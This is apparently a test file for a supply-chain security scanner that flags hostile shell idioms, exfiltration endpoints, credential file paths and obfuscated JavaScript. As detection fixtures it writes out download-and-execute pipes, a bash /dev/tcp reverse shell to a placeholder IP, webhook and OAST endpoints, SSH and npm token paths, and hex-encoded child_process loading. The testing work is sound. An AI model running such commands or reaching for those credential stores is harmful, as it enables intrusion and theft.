import { test } from 'node:test';
import assert from 'node:assert/strict';
import { isTrSwap, scanShell, posixToRegExp } from '../../src/analyzers/content/shell-scan.js';
import { findEndpoints, isPublicIp, sensitivePath } from '../../src/analyzers/content/catalog.js';
import { parseCommand } from '../../src/analyzers/content/install-scripts.js';
import { scanJsFile } from '../../src/analyzers/content/js-file.js';

test('tr: character swaps and rot13 count, case mapping does not', () => {
  assert.equal(isTrSwap('\\t \\-_', ' \\t_\\-'), true);
  assert.equal(isTrSwap('A-Za-z', 'N-ZA-Mn-za-m'), true);
  assert.equal(isTrSwap('a-z', 'A-Z'), false);
  assert.equal(isTrSwap('abc', 'abc'), false);
});

test('shell idioms: decompress/decode into a shell, download-exec, reverse shell; `|| eval` is not a pipe', () => {
  const idioms = (s: string) => scanShell(s, 'x.sh').hits.map((h) => h.idiom);
  assert.deepEqual(idioms('xz -dc payload.xz | sh'), ['decompress-to-shell']);
  assert.deepEqual(idioms('cat p.b64 | base64 -d | bash'), ['decode-to-shell']);
  assert.deepEqual(idioms('curl -fsSL https://x.example.invalid/i.sh | sudo bash'), ['download-exec']);
  assert.deepEqual(idioms('wget -q http://x.example.invalid/m -O m && chmod +x m && ./m'), ['download-exec']);
  assert.deepEqual(idioms('bash -i >& /dev/tcp/192.0.2.1/9 0>&1'), ['reverse-shell']);
  assert.deepEqual(idioms('test -d "$d" || eval $as_mkdir_p'), []);
  assert.deepEqual(idioms("tr 'a-z' 'A-Z' < in > out"), []);
  assert.deepEqual(idioms('# curl x | sh (a comment)'), []);
});

test('grep -a marker pattern is captured and converted to a JS RegExp', () => {
  const hit = scanShell('m=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`', 'a.m4').hits[0]!;
  assert.equal(hit.idiom, 'grep-binary-marker');
  const re = posixToRegExp(hit.pattern!)!;
  assert.ok(re.test('junk\n####Hello####\nmore'));
  assert.ok(!re.test('###Hi###'));
});

test('endpoints by family; raw IPs only when public', () => {
  assert.deepEqual(
    findEndpoints('https://webhook.site/00000000-0000-0000-0000-000000000000').map((e) => e.category),
    ['webhook'],
  );
  assert.deepEqual(
    findEndpoints('http://abc.oastify.com/x').map((e) => e.category),
    ['oast'],
  );
  assert.deepEqual(
    findEndpoints('https://discord.com/api/webhooks/1/abc').map((e) => e.category),
    ['chat-bot'],
  );
  assert.deepEqual(findEndpoints('https://discord.com/invite/x'), []);
  assert.deepEqual(
    findEndpoints('http://8.8.4.4:8080/x').map((e) => e.category),
    ['raw-ip'],
  );
  assert.equal(isPublicIp('127.0.0.1'), false);
  assert.equal(isPublicIp('10.1.2.3'), false);
  assert.equal(isPublicIp('192.0.2.10'), false);
  assert.equal(isPublicIp('999.1.1.1'), false);
});

test('sensitive paths: credential stores, not browser install folders', () => {
  assert.equal(sensitivePath('/home/u/.npmrc')?.category, 'package-token');
  assert.equal(sensitivePath('Google/Chrome/User Data/Default')?.category, 'browser-profile');
  assert.equal(sensitivePath('C:/Program Files/BraveSoftware/Brave-Browser/Application/brave.exe'), undefined);
  assert.equal(sensitivePath('.ssh/id_ed25519')?.category, 'ssh');
  assert.equal(sensitivePath('hello world'), undefined);
});

test('install command parsing: node files, inline -e code, shell scripts, env prefixes', () => {
  assert.deepEqual(parseCommand('node install.js'), { files: ['install.js'], inlineJs: [] });
  assert.deepEqual(parseCommand('FOO=1 node --no-warnings ./scripts/post.js && sh ./x.sh'), {
    files: ['./scripts/post.js', './x.sh'],
    inlineJs: [],
  });
  assert.deepEqual(parseCommand('node -e "require(\'./a\')"'), { files: [], inlineJs: ["require('./a')"] });
  assert.deepEqual(parseCommand('node-gyp rebuild'), { files: [], inlineJs: [] });
});

test('string-array obfuscation needs many _0x names; minified one-letter code does not trigger', () => {
  const obf = scanJsFile('o.js', Array.from({ length: 20 }, (_, i) => `var _0x${(0xa000 + i).toString(16)}=${i};`).join(''));
  assert.ok(obf.obfuscation.some((o) => o.technique === 'string-array'));
  const min = scanJsFile('m.js', Array.from({ length: 200 }, (_, i) => `var a${i}=function(b){return b+${i}};`).join(''));
  assert.deepEqual(min.obfuscation, []);
});

test('decode taint is scoped: a decoder in one function does not taint a same-named variable elsewhere', () => {
  const code = 'function f(){var e=atob(x);return e}\nfunction g(e){return /a/.exec(e) && new Function(e)}\n';
  const r = scanJsFile('s.js', code);
  assert.deepEqual(
    r.obfuscation.filter((o) => o.technique === 'encoded-exec'),
    [],
  );
  const bad = scanJsFile(
    'b.js',
    'function d(s){return Buffer.from(s,"hex").toString()}\nconst m = require(d("6368696c645f70726f63657373"));\n',
  );
  assert.equal(bad.obfuscation.filter((o) => o.technique === 'encoded-exec').length, 1);
});

test('scanJsFile says how each file was read: skipped (no capability token), parsed, regex when the gate asks for an AST it cannot have', () => {
  // What the content facts report as a parse fallback (facts.ts) depends on this label.
  assert.equal(scanJsFile('plain.js', 'module.exports = function add(a, b) { return a + b; };\n').parser, 'skipped');
  assert.equal(scanJsFile('net.js', "const https = require('https');\nhttps.get('https://example.invalid/');\n").parser, 'meriyah');
  const broken = scanJsFile('broken.js', "const https = require('https');\nhttps.get(( {{ \n");
  assert.notEqual(broken.parser, 'skipped', 'a file the gate wanted parsed is never labelled skipped');
  assert.notEqual(broken.parser, 'meriyah');
  assert.equal(scanJsFile('types.ts', 'export const x: number = 1;\n', { typescript: true }).parser, 'regex');
});
